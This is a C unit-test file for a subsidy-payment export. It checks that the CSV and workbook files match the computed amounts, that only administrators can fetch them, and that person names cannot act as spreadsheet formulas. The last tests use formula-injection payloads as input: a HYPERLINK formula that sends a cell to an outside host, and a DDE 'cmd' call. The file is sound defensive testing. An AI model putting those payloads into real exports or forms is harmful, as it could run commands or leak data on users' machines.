/* review_export_test.c -- what is handed to whoever pays: the amounts are those reckoned, and what
 * somebody is called is never a command to a spreadsheet program.  Cites review_show_money.c. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "bureau/review/review_court_test.h"
#include "bureau/review/review_money.h"
#include "bureau/review/review_money_views.h"
#include "platform/csv.h"
#include "platform/scene_test.h"
#include "platform/sheet_test.h"

TestSuite(review_export, .init = court_open, .fini = court_close);

/* ---- a month ---- */

/* Anna had two talks at 15, an answer at 20 and a late one at 10, of which the limit leaves 50; Bo
 * a talk, and one of November; Chen two talks. */
static void october(void)
{
    moment first = calendar_moment_of(2026, 10, 1, 600);

    cr_assert(!court_post(&court.admin, &review_act_subsidy_policy, "%s",
                          "from_month=2026-10&live=15&live_max=0&message=20&message_max=0&"
                          "message_late=10&message_late_max=0&shift_hour=0&shift_hour_max=0&"
                          "standby_hour=5&standby_hour_max=0&cap=50&handle_min=1 min"));
    court_serve((struct court_serving){&court.anna, first, 5});
    court_serve((struct court_serving){&court.anna, first + SECONDS_PER_DAY, 0});
    court_serve((struct court_serving){.by = &court.anna, .at = first + 100, .is_written = true});
    court_serve((struct court_serving){
        .by = &court.anna, .at = first + 200, .is_written = true, .is_late = true});
    court_serve((struct court_serving){&court.bo, first + 300, 0});
    court_serve((struct court_serving){&court.bo, first + 40 * (int64_t)SECONDS_PER_DAY, 0});
    court_serve((struct court_serving){&court.chen, first + 400, 4});
    court_serve((struct court_serving){&court.chen, first + 500, 4});
}

static void close_october(void)
{
    const struct review_list_next_people_row *next;
    size_t count;

    cr_assert(!court_post(&court.admin, &review_act_month_close, "month=2026-10"));
    for (id after = 0;; after = next[count - 1].person_id) {
        cr_assert(!court_tick(&review_act_closing, after));
        cr_assert(test_done(
            review_list_next_people(court.scene->arena, court.scene->store, after, &next, &count)));
        if (!count) return;
    }
}

static void correct(const struct actor *who, const char *amount, const char *reason)
{
    cr_assert(!court_post(&court.admin, &review_act_correct,
                          "month=2026-10&person=%lld&amount=%s&reason=%s",
                          (long long)who->person_id, amount, reason));
}

static struct review_subsidies_view month(void)
{
    struct review_subsidies_view view;
    struct str go;

    court.scene->actor = court.admin;
    cr_assert(test_done(test_show(court.scene,
                                  &(struct module){.name = "money", .pages = review_money_pages},
                                  "/admin/subsidies", "month=2026-10", &view, &go)));
    return view;
}

static struct outcome send(const char *path, struct file_answer *answer)
{
    struct review_month_form form = {.month = S("2026-10")};
    struct request request = {.scene = court.scene};

    for (const struct page *page = review_money_pages; page->path; page++) {
        if (page->file && strcmp(page->path, path) == 0) return page->file(&request, &form, answer);
    }
    cr_assert(false, "there is no page %s", path);
    return DONE;
}

static struct str sent(const char *path)
{
    struct file_answer answer;

    court.scene->actor = court.admin;
    cr_assert(test_done(send(path, &answer)));
    return answer.bytes;
}
static struct str csv(void)
{
    return sent("/admin/subsidies/{month}/payments.csv");
}

static void call(const struct actor *who, const char *name)
{
    cr_assert(test_done(store_script(
        court.scene->store,
        arena_c(court.scene->arena,
                arena_print(court.scene->arena,
                            "update person set person_name = '%s' where person_id = %lld", name,
                            (long long)who->person_id)))));
}

/* ---- the amounts ---- */

enum { LOGIN, NAME, TEAM, LIVE, CUT = LIVE + REVIEW_ITEMS, CORRECTION, YUAN, REASONS, COLUMNS };

static struct csv_table table_of(struct str bytes)
{
    struct csv_table table;
    struct str text;

    cr_assert(test_done(csv_text(court.scene->arena, bytes, &text)));
    cr_assert(test_done(csv_read(court.scene->arena, text, &table)));
    return table;
}

static int64_t fen_in(struct str cell)
{
    int64_t fen;

    cr_assert(review_fen_of(cell, &fen), "%.*s", STR_ARGS(cell));
    return fen;
}

static int64_t number_in(struct str cell)
{
    int64_t number;

    cr_assert(str_to_int(cell, &number), "%.*s", STR_ARGS(cell));
    return number;
}

/* (1) The file against the page, row by row. */
static void expect_as_on_the_page(struct str bytes)
{
    struct review_subsidies_view view = month();
    struct csv_table table = table_of(bytes);
    int64_t sum = 0;

    cr_assert_eq(table.count, view.people_count + 1);
    for (size_t i = 0; i < view.people_count; i++) {
        const struct review_earner_view *e = &view.people[i];
        const struct str *cells = table.rows[i + 1].cells;

        cr_assert_eq(table.rows[i + 1].count, COLUMNS);
        cr_expect(str_same(cells[LOGIN], e->login) && str_same(cells[NAME], e->name) &&
                  str_same(cells[TEAM], e->team));
        cr_expect(number_in(cells[LIVE + REVIEW_LIVE]) == e->live &&
                  number_in(cells[LIVE + REVIEW_MESSAGE]) == e->message &&
                  number_in(cells[LIVE + REVIEW_MESSAGE_LATE]) == e->message_late &&
                  number_in(cells[LIVE + REVIEW_SHIFT_HOUR]) == e->shift_hours &&
                  number_in(cells[LIVE + REVIEW_STANDBY_HOUR]) == e->standby_hours);
        cr_expect_eq(fen_in(cells[CUT]), e->cut_fen);
        cr_expect_eq(fen_in(cells[CORRECTION]), e->correction_fen);
        cr_expect_eq(fen_in(cells[YUAN]), e->total_fen);
        sum += fen_in(cells[YUAN]);
    }
    cr_expect_eq(sum, view.total_fen);
}

static struct str row_of(struct str bytes, const char *login)
{
    int64_t at = str_find(bytes, arena_print(court.scene->arena, "\r\n\"%s\",", login));
    struct str rest;

    cr_assert_geq(at, 0, "%s is not in it", login);
    rest = (struct str){bytes.at + at + 2, bytes.len - (size_t)at - 2};
    return str_cut(rest, '\r', &rest);
}

Test(review_export, what_is_paid_is_what_was_reckoned_before_and_after_the_month_is_closed)
{
    october();
    for (int closed = 0; closed < 2; closed++) {
        if (closed) close_october();
        expect_as_on_the_page(csv());
        cr_expect_geq(str_find(row_of(csv(), "anna"), S(",2,1,1,0,0,10.00,0.00,50.00,")), 0);
        cr_expect_geq(str_find(row_of(csv(), "bo"), S(",1,0,0,0,0,0.00,0.00,15.00,")), 0);
        cr_expect_geq(str_find(row_of(csv(), "chen"), S(",2,0,0,0,0,0.00,0.00,30.00,")), 0);
    }
    correct(&court.anna, "15.00", "补记一次咨询");
    correct(&court.bo, "-0.05", "误记");
    expect_as_on_the_page(csv());
    cr_expect_geq(str_find(row_of(csv(), "anna"), S(",10.00,15.00,65.00,\"补记一次咨询\"")), 0);
    cr_expect_geq(str_find(row_of(csv(), "bo"), S(",0.00,-0.05,14.95,\"误记\"")), 0);
}

/* The n-th row of a page of the workbook, 1 being the titles. */
static struct str sheet_row_of(struct str cells, int number)
{
    struct arena *arena = court.scene->arena;
    int64_t at = str_find(cells, arena_print(arena, "<row r=\"%d\"", number)), end;
    struct str row;

    cr_assert_geq(at, 0, "row %d", number);
    row = (struct str){cells.at + at, cells.len - (size_t)at};
    end = str_find(row, S("</row>"));
    cr_assert_geq(end, 0);
    return (struct str){row.at, (size_t)end};
}

static bool holds(struct str row, const char *cell, struct str value)
{
    int64_t at = str_find(row, arena_print(court.scene->arena, "r=\"%s\"", cell)), end;
    struct str rest;

    if (at < 0) return false;
    rest = (struct str){row.at + at, row.len - (size_t)at};
    end = str_find(rest, S("</c>"));
    if (end >= 0) rest.len = (size_t)end;
    return str_find(rest, arena_print(court.scene->arena, "<v>%.*s</v>", STR_ARGS(value))) >= 0;
}

/* (1) Numbers are numbers there, so that the program adds them up. */
Test(review_export, the_workbook_holds_the_same_amounts_as_numbers)
{
    struct review_subsidies_view view;
    struct str bytes, cells;

    october();
    close_october();
    correct(&court.anna, "15.00", "补记一次咨询");
    view = month();
    bytes = sent("/admin/subsidies/{month}/payments.xlsx");
    cells = sheet_part(court.scene->arena, bytes, "xl/worksheets/sheet1.xml");
    cr_assert_eq(view.people_count, 3);
    for (size_t i = 0; i < view.people_count; i++) {
        const struct review_earner_view *e = &view.people[i];
        struct str row = sheet_row_of(cells, (int)i + 2);
        /* A workbook writes 65 and not 65.00. */
        struct str yuan = arena_print(court.scene->arena, "%g", (double)e->total_fen / 100);
        struct str cut = arena_print(court.scene->arena, "%g", (double)e->cut_fen / 100);
        char cell[8];

        snprintf(cell, sizeof cell, "D%zu", i + 2);
        cr_expect(holds(row, cell, arena_print(court.scene->arena, "%lld", (long long)e->live)));
        snprintf(cell, sizeof cell, "I%zu", i + 2);
        cr_expect(holds(row, cell, cut), "%.*s", STR_ARGS(row));
        snprintf(cell, sizeof cell, "K%zu", i + 2);
        cr_expect(holds(row, cell, yuan), "%.*s", STR_ARGS(row));
    }
    cr_expect_lt(str_find(cells, S("r=\"A5\"")), 0, "and nobody else");
}

Test(review_export, only_whoever_pays_gets_it)
{
    struct file_answer answer;

    october();
    court.scene->actor = court.admin;
    court.scene->actor.scopes = scopes_of(S("310101"));
    cr_expect_eq(send("/admin/subsidies/{month}/payments.csv", &answer).refusal, &act_not_yours);
    cr_expect_eq(send("/admin/subsidies/{month}/payments.xlsx", &answer).refusal, &act_not_yours);
    for (const struct page *page = review_money_pages; page->path; page++)
        cr_expect(!page->file || page->who == WHO_ADMIN, "%s", page->path);
}

/* ---- a name is no command ---- */

/* A cell as a program reads it: what stands between two commas, without its marks. */
static bool may_run(struct str cell)
{
    static const char *const wide[] = {"＝", "＋", "－", "＠"};
    bool is_number = cell.len > 0;

    for (size_t i = 0; i < cell.len; i++)
        is_number = is_number && strchr(i ? "0123456789." : "-0123456789", cell.at[i]);
    if (is_number) return false;
    for (size_t i = 0; i < COUNT(wide); i++) {
        if (str_begins(cell, str_of(wide[i]))) return true;
    }
    return cell.len && memchr("=+-@|%\t\r\n", cell.at[0], 9);
}

static size_t cells_that_run(struct str text)
{
    size_t count = 0, begins = 3; /* behind the mark of UTF-8 */
    bool is_quoted = false;

    for (size_t i = begins; i < text.len; i++) {
        is_quoted = is_quoted != (text.at[i] == '"');
        if (!is_quoted && (text.at[i] == ',' || text.at[i] == '\n')) {
            struct str cell = {text.at + begins, i - begins};

            if (cell.len && cell.at[0] == '"') cell.at++, cell.len--;
            count += may_run(cell);
            begins = i + 1;
        }
    }
    return count;
}

/* The rule the test goes by sees what would run. */
Test(review_export, a_cell_that_would_run_is_seen)
{
    cr_expect_eq(cells_that_run(S("\xEF\xBB\xBF\"=1\",\"+x\",@y,\"-1+1\"\r\n\"\tz\",＝1\r\n")), 6);
    cr_expect_eq(cells_that_run(S("\xEF\xBB\xBF\"'=1\",-5.00,\"a,\"\"=b\",7\r\n")), 0);
}

Test(review_export, a_name_or_a_reason_is_text_to_every_program)
{
    static const char *const names[] = {"=HYPERLINK(\"http://example.org/\"&A1,\"张三\")",
                                        "+86 138",
                                        "-1+1",
                                        "@SUM(A1)",
                                        "\t=1+1",
                                        "＝1+1",
                                        "＠张三",
                                        "=cmd|\"/c calc\"!A1"};

    october();
    close_october();
    correct(&court.anna, "1.00", "=1+1");
    correct(&court.bo, "-1.00", "@误记");
    for (size_t i = 0; i < COUNT(names); i++) {
        struct str bytes, words;

        call(&court.anna, names[i]);
        call(&court.bo, names[(i + 3) % COUNT(names)]);
        bytes = csv();
        cr_expect_eq(cells_that_run(bytes), 0, "%.*s", STR_ARGS(bytes));
        expect_as_on_the_page(bytes); /* and a program of ours reads the name as it is */
        bytes = sent("/admin/subsidies/{month}/payments.xlsx");
        words = sheet_part(court.scene->arena, bytes, "xl/worksheets/sheet1.xml");
        cr_expect(str_find(words, S("<f>")) < 0 && str_find(words, S("<f ")) < 0);
        cr_expect_lt(str_find(words, S("<hyperlink")), 0);
        words = sheet_part(court.scene->arena, bytes, "xl/sharedStrings.xml");
        cr_expect_geq(str_find(words, S("=1+1</t>")), 0, "kept, as text");
    }
}
